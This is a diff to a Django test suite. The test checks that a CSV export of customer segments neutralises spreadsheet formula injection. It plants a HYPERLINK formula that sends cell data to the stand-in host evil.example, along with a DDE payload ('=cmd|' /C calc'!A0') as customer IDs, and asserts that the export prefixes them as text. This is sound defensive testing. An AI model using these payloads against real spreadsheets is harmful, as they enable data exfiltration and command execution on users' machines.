@@ -119,7 +119,9 @@ def test_export_writes_formula_like_ids_and_names_as_text_and_numbers_as_numbers
             customer=customer, external_id=f"H{n}b", ordered_at=ordered, amount=Decimal("-22.50"), is_return=True
         )
     call_command("segment", "--k", "3", stdout=StringIO(), stderr=StringIO())
-    Segment.objects.filter(is_active=True).update(name='=HYPERLINK("http://evil.example/?x="&A2,"Champions")')
+    # Each its own name: no two live segments share one.
+    for n, segment in enumerate(Segment.objects.filter(is_active=True)):
+        Segment.objects.filter(pk=segment.pk).update(name=f'=HYPERLINK("http://evil.example/?x="&A2,"Champions {n}")')
     output = tmp_path / "segments.csv"
 
     call_command("export_segments", "--output", str(output), stdout=StringIO())
@@ -127,7 +129,7 @@ def test_export_writes_formula_like_ids_and_names_as_text_and_numbers_as_numbers
     with output.open(newline="") as file:
         rows = {row["customer_id"]: row for row in csv.DictReader(file)}
     assert {"'=cmd|' /C calc'!A0", "'-12", "'@SUM(A1)", "'+44"} <= set(rows)
-    assert all(row["segment_name"] == '\'=HYPERLINK("http://evil.example/?x="&A2,"Champions")' for row in rows.values())
+    assert all(row["segment_name"].startswith('\'=HYPERLINK("http://evil.example/?x="&A2,"Champions ') for row in rows.values())
     assert rows["'-12"]["monetary"] == "-12.5"
     assert float(rows["C0001"]["monetary"]) > 0 and rows["C0001"]["rfm_code"].isdigit()
 
